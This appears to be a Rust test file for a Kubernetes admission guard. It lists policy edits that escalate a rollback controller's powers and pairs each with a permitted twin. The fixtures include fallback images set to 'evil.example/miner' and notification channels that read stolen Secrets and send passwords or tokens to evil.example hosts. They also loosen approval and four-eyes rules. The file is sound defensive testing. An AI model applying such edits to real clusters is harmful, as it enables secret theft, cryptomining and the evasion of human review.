//! What a policy lets the controller do takes the verb by hand, and fewer approvals than in production take `relax`.

use serde_json::{Value, json};

use crate::attack::{APPLY, Expect, Family, JSON, MERGE, PUT, Thing};
use crate::people::{ADMIN, KEEPER, OWNER, POLICY_ADMIN, RELAXER};

const ITS: &[Thing] = &[Thing::Policy];
const GUARD: &str = "rollback-guard-policy";

fn spec(spec: &Value) -> Value {
    json!({"spec": spec})
}

fn approvals(approvals: &Value) -> Value {
    spec(&json!({"approvals": approvals}))
}

fn triggers(triggers: &Value) -> Value {
    spec(&json!({"triggers": triggers}))
}

fn images(images: &[(&str, &str)]) -> Value {
    let image = |(deployment, image): &(&str, &str)| json!({"targetRef": {"name": deployment}, "container": "app", "image": image});
    let images: Vec<Value> = images.iter().map(image).collect();
    spec(&json!({"remedies": {"fallbackImages": images}}))
}

fn force(seconds: &Value) -> Value {
    spec(&json!({"remedies": {"forceDeleteAfterSeconds": seconds}}))
}

fn log(lines: i32) -> Value {
    spec(&json!({"rollout": {"logTailLines": lines}}))
}

/// A Job whose log is read.
fn told(lines: i32) -> Value {
    let pod = json!({"containers": [{"name": "main", "image": "shop/drain:1"}]});
    spec(
        &json!({"hooks": {"preRollback": [{"name": "drain", "logTailLines": lines, "podSpec": pod}]}}),
    )
}

/// Images, logs and pods.
pub fn by_hand() -> Family {
    let one = Expect::Guard(GUARD, "may not patch the Deployment api in namespace");
    let many = Expect::Guard(GUARD, "may not patch Deployments in namespace");
    let delete = Expect::Guard(GUARD, "may not delete pods in namespace");
    let read = Expect::Guard(GUARD, "may not get pods/log in namespace");
    let known = ("web", "shop/web:good");
    let worse = ("api", "evil.example/miner:1");
    Family {
        name: "policy-powers",
        attacks: rows! {
            "an image", &[POLICY_ADMIN, RELAXER], &[MERGE, JSON, PUT, APPLY, MERGE.dry()], ITS, images(&[known, worse]), one;
            "another image", &[POLICY_ADMIN], &[MERGE], ITS, images(&[("api", "evil.example/miner:2")]), one;
            "several images", &[POLICY_ADMIN], &[MERGE, JSON], ITS, images(&[worse, ("web", "evil.example/miner:1")]), many;
            "deleting by force sooner", &[POLICY_ADMIN, RELAXER], &[MERGE, JSON, PUT, APPLY], ITS, force(&json!(1)), delete;
            "more of the log", &[POLICY_ADMIN, RELAXER], &[MERGE, JSON, PUT, APPLY], ITS, log(20), read;
        },
        twins: twins! {
            "the same image", &[POLICY_ADMIN, RELAXER], &[MERGE, JSON, PUT, APPLY], ITS, images(&[known]);
            "no image", &[POLICY_ADMIN], &[MERGE, JSON, PUT, APPLY], ITS, images(&[]);
            "images, by who may patch", &[KEEPER, OWNER, ADMIN], &[MERGE, JSON, PUT, APPLY], ITS, images(&[worse, known]);
            "deleting by force later", &[POLICY_ADMIN], &[MERGE, JSON, PUT], ITS, force(&json!(3600));
            "deleting by force never", &[POLICY_ADMIN], &[MERGE], ITS, force(&json!(null));
            "deleting by force, by who may", &[KEEPER, OWNER, ADMIN], &[MERGE, JSON, PUT, APPLY], ITS, force(&json!(1));
            "less of the log", &[POLICY_ADMIN], &[MERGE, JSON, PUT, APPLY], ITS, log(1);
            "as much of the log", &[POLICY_ADMIN], &[MERGE, APPLY], ITS, log(5);
            "more of the log, by who may", &[KEEPER, OWNER, ADMIN], &[MERGE, JSON, PUT, APPLY], ITS, log(20);
            "the log of a Job, by who may", &[KEEPER, OWNER, ADMIN], &[MERGE, JSON], ITS, told(5);
        },
    }
}

/// The logs of Jobs: who may create Jobs need not be somebody who may read what they write.
pub fn logs() -> Family {
    let read = Expect::Guard(GUARD, "may not get pods/log in namespace");
    Family {
        name: "policy-logs",
        attacks: rows! {
            "of a Job", &[crate::people::RUNNER], &[MERGE, JSON, PUT, APPLY], ITS, told(5), read;
        },
        twins: twins! {
            "a Job without", &[crate::people::RUNNER], &[MERGE, JSON, PUT, APPLY], ITS, told(0);
        },
    }
}

fn channels(channels: &[Value]) -> Value {
    spec(&json!({"notifications": {"channels": channels}}))
}

/// A channel whose address stands in this Secret.
fn hook(name: &str, secret: &str) -> Value {
    json!({"name": name, "teams": {"webhook": {"name": secret, "key": "url"}}})
}

/// The Secrets that the controller reads for the channels of a policy, and where it sends what it has read.
pub fn secrets() -> Family {
    let one = Expect::Guard(GUARD, "may not get the Secret stolen in namespace");
    let token = Expect::Guard(GUARD, "may not get the Secret known in namespace");
    let many = Expect::Guard(GUARD, "may not get Secrets in namespace");
    // As the stage has it.
    let kept = || {
        let mut kept = hook("known", "known");
        kept["on"] = json!({"events": ["ReviewOverdue"]});
        kept
    };
    let pager =
        json!({"name": "pager", "pagerDuty": {"routingKey": {"name": "stolen", "key": "key"}}});
    let bearer = |url: &str| json!({"name": "alerts", "alertmanager": {"urls": [url], "bearerToken": {"name": "known", "key": "token"}}});
    let mail = json!({"name": "mail", "email": {
        "server": "mail.evil.example", "from": "a@evil.example", "to": ["b@evil.example"],
        "username": {"name": "stolen", "key": "user"}, "password": {"name": "stolen", "key": "password"},
    }});
    let signed = json!({"name": "hook", "webhook": {
        "url": {"name": "mine", "key": "url"}, "signingKey": {"name": "stolen", "key": "key"},
    }});
    let bot = json!({"name": "slack", "slack": {"botToken": {"name": "stolen", "key": "token"}, "channel": "C0123ABCD"}});
    let elsewhere = bearer("https://evil.example");
    Family {
        name: "policy-secrets",
        attacks: rows! {
            "another Secret", &[POLICY_ADMIN, RELAXER], &[MERGE, JSON, PUT, APPLY, MERGE.dry()], ITS, channels(&[kept(), hook("new", "stolen")]), one;
            "a routing key", &[POLICY_ADMIN], &[MERGE, JSON], ITS, channels(&[kept(), pager.clone()]), one;
            "a password", &[POLICY_ADMIN], &[MERGE, JSON], ITS, channels(std::slice::from_ref(&mail)), one;
            "a bot", &[POLICY_ADMIN], &[MERGE], ITS, channels(&[bot]), one;
            "a Secret to sign with", &[POLICY_ADMIN], &[MERGE], ITS, channels(&[signed]), many;
            "the same name, another Secret", &[POLICY_ADMIN], &[MERGE, JSON], ITS, channels(&[hook("known", "stolen")]), one;
            "a known token to another address", &[POLICY_ADMIN], &[MERGE, JSON, PUT], ITS, channels(&[kept(), elsewhere.clone()]), token;
            "several", &[POLICY_ADMIN], &[MERGE], ITS, channels(&[hook("a", "stolen"), hook("b", "other")]), many;
        },
        twins: twins! {
            "as it was", &[POLICY_ADMIN, RELAXER], &[MERGE, JSON, PUT, APPLY], ITS, channels(&[kept()]);
            "no channel", &[POLICY_ADMIN], &[MERGE, JSON], ITS, channels(&[]);
            "one without a Secret", &[POLICY_ADMIN], &[MERGE, JSON, PUT, APPLY], ITS, channels(&[kept(), json!({"name": "alerts", "alertmanager": {"urls": ["http://alertmanager:9093"]}})]);
            "by who may read them", &[KEEPER, OWNER, ADMIN], &[MERGE, JSON, PUT, APPLY], ITS, channels(&[kept(), pager, mail, elsewhere]);
        },
    }
}

/// Fewer or weaker approvals.
pub fn relaxing() -> Family {
    let relax = Expect::Guard(GUARD, "may not relax approvals in namespace");
    let alone = approvals(&json!({"required": 1, "fourEyes": false, "breakGlass": true}));
    let matrix = |category: &str, mode: &str| {
        spec(&json!({"decisionMatrix": [{"category": category, "approval": mode}]}))
    };
    let machine = |name: &str| {
        approvals(&json!({"trustedMachines": ["system:serviceaccount:shop:known", name]}))
    };
    let argo = "system:serviceaccount:argocd:argocd-application-controller";
    Family {
        name: "policy-relaxed",
        attacks: rows! {
            "softer", &[POLICY_ADMIN, KEEPER], &[MERGE, JSON, PUT, APPLY, MERGE.dry()], ITS, alone.clone(), relax;
            "staging", &[POLICY_ADMIN, KEEPER], &[MERGE, JSON, PUT, APPLY], ITS, spec(&json!({"environment": "staging"})), relax;
            "development", &[POLICY_ADMIN], &[MERGE], ITS, spec(&json!({"environment": "development"})), relax;
            "two eyes", &[POLICY_ADMIN], &[MERGE, JSON], ITS, approvals(&json!({"fourEyes": false})), relax;
            "staging with four eyes", &[POLICY_ADMIN], &[MERGE], ITS, spec(&json!({"environment": "staging", "approvals": {"fourEyes": true}})), relax;
            "nothing to tick", &[POLICY_ADMIN], &[MERGE, JSON], ITS, approvals(&json!({"checklist": []})), relax;
            "one thing to tick", &[POLICY_ADMIN], &[MERGE], ITS, approvals(&json!({"checklist": [{"name": "a", "text": "x"}]})), relax;
            "approvals that last", &[POLICY_ADMIN], &[MERGE, JSON], ITS, approvals(&json!({"validForSeconds": 7201})), relax;
            "requests that last", &[POLICY_ADMIN], &[MERGE, JSON], ITS, approvals(&json!({"expireAfterSeconds": 3601})), relax;
            "glass to break", &[POLICY_ADMIN], &[MERGE, JSON], ITS, approvals(&json!({"breakGlass": true})), relax;
            "a machine that is trusted", &[POLICY_ADMIN], &[MERGE, JSON, APPLY], ITS, machine(argo), relax;
            "a category that approves itself", &[POLICY_ADMIN], &[MERGE, JSON], ITS, matrix("ErrorRate", "Automatic"), relax;
            "a category that is fixed forward", &[POLICY_ADMIN], &[MERGE, JSON], ITS, matrix("Feature", "Manual"), relax;
            "the same, without a person", &[POLICY_ADMIN], &[MERGE], ITS, matrix("Feature", "Automatic"), relax;
            "another source", &[POLICY_ADMIN], &[MERGE, JSON], ITS, triggers(&json!({"sources": ["alertmanager", "mine"]})), relax;
            "the watch", &[POLICY_ADMIN], &[MERGE], ITS, triggers(&json!({"watch": true})), relax;
            "as often as it likes", &[POLICY_ADMIN], &[MERGE], ITS, triggers(&json!({"mostPerHour": 4})), relax;
            "as soon as it likes", &[POLICY_ADMIN], &[MERGE], ITS, triggers(&json!({"coolDownSeconds": 1799})), relax;
            "however old", &[POLICY_ADMIN], &[MERGE], ITS, triggers(&json!({"blameSeconds": 3601})), relax;
            "at the first crash", &[POLICY_ADMIN], &[MERGE, JSON], ITS, triggers(&json!({"grace": {"crashSeconds": 29}})), relax;
            "at the first pod that is not ready", &[POLICY_ADMIN], &[MERGE], ITS, triggers(&json!({"grace": {"unreadySeconds": 0}})), relax;
            "at the first image that is late", &[POLICY_ADMIN], &[MERGE], ITS, triggers(&json!({"grace": {"imagePullSeconds": 0}})), relax;
            "at the first rollout that is slow", &[POLICY_ADMIN], &[MERGE], ITS, triggers(&json!({"grace": {"rolloutSeconds": 1}})), relax;
            "although it did not help", &[POLICY_ADMIN], &[MERGE], ITS, triggers(&json!({"escalateSeconds": 0})), relax;
            "what is good at once", &[POLICY_ADMIN], &[MERGE], ITS, spec(&json!({"ledger": {"soakSeconds": 1}})), relax;
        },
        twins: twins! {
            "softer, by who may relax", &[RELAXER, OWNER, ADMIN], &[MERGE, JSON, PUT, APPLY], ITS, alone;
            "staging, by who may relax", &[RELAXER], &[MERGE, JSON, PUT, APPLY], ITS, spec(&json!({"environment": "staging"}));
            "a machine, by who may relax", &[RELAXER], &[MERGE, JSON, APPLY], ITS, machine(argo);
            "a category, by who may relax", &[RELAXER], &[MERGE], ITS, matrix("Feature", "Automatic");
            "another source, by who may relax", &[RELAXER], &[MERGE], ITS, triggers(&json!({"sources": ["alertmanager", "mine"]}));
            "stricter", &[POLICY_ADMIN, KEEPER], &[MERGE, JSON, PUT, APPLY], ITS, approvals(&json!({"required": 3, "fourEyes": true, "validForSeconds": 60, "expireAfterSeconds": 60}));
            "other things to tick", &[POLICY_ADMIN], &[MERGE, JSON], ITS, approvals(&json!({"checklist": [{"name": "a", "text": "x"}, {"name": "b", "text": "y"}]}));
            "as it was", &[POLICY_ADMIN, KEEPER], &[MERGE, JSON, PUT, APPLY], ITS, approvals(&json!({"validForSeconds": 7200, "trustedMachines": ["system:serviceaccount:shop:known"]}));
            "one machine less", &[POLICY_ADMIN], &[MERGE], ITS, approvals(&json!({"trustedMachines": []}));
            "a category for people", &[POLICY_ADMIN], &[MERGE, JSON], ITS, matrix("HealthCheck", "Manual");
            "a category as it was", &[POLICY_ADMIN], &[MERGE], ITS, matrix("Latency", "Automatic");
            "one source less", &[POLICY_ADMIN], &[MERGE, JSON], ITS, triggers(&json!({"sources": []}));
            "less often", &[POLICY_ADMIN], &[MERGE], ITS, triggers(&json!({"mostPerHour": 1, "coolDownSeconds": 3600, "blameSeconds": 60, "paused": true}));
            "later", &[POLICY_ADMIN], &[MERGE], ITS, triggers(&json!({"grace": {"crashSeconds": 60, "rolloutSeconds": 600}, "escalateSeconds": 3600}));
            "sooner, by who may relax", &[RELAXER], &[MERGE], ITS, triggers(&json!({"grace": {"crashSeconds": 0}, "escalateSeconds": 0}));
            "nothing by itself", &[POLICY_ADMIN], &[MERGE], ITS, triggers(&json!({"approve": false, "watch": true, "sources": ["mine"]}));
        },
    }
}
